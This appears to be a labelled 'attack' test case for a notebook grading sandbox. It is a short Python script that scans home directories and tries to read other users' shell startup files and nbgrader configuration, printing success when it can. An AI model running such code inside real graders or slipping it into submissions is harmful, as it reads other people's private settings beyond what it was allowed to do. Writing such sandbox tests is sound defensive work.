"""
goal = "Read settings in the home folder of whoever runs the grader."
evidence = "printed"
base = "right"
"""
# %% attack
import glob
import os

homes = {os.path.expanduser("~"), "/root", *glob.glob("/home/*"), *glob.glob("/Users/*")}
for home in homes - {os.getcwd()}:
    for name in (".bashrc", ".profile", ".zshrc", ".jupyter/nbgrader_config.py"):
        try:
            with open(os.path.join(home, name), "rb") as file:
                if file.read(1):
                    print("SUCCEEDED: read", os.path.join(home, name))
        except OSError:
            continue
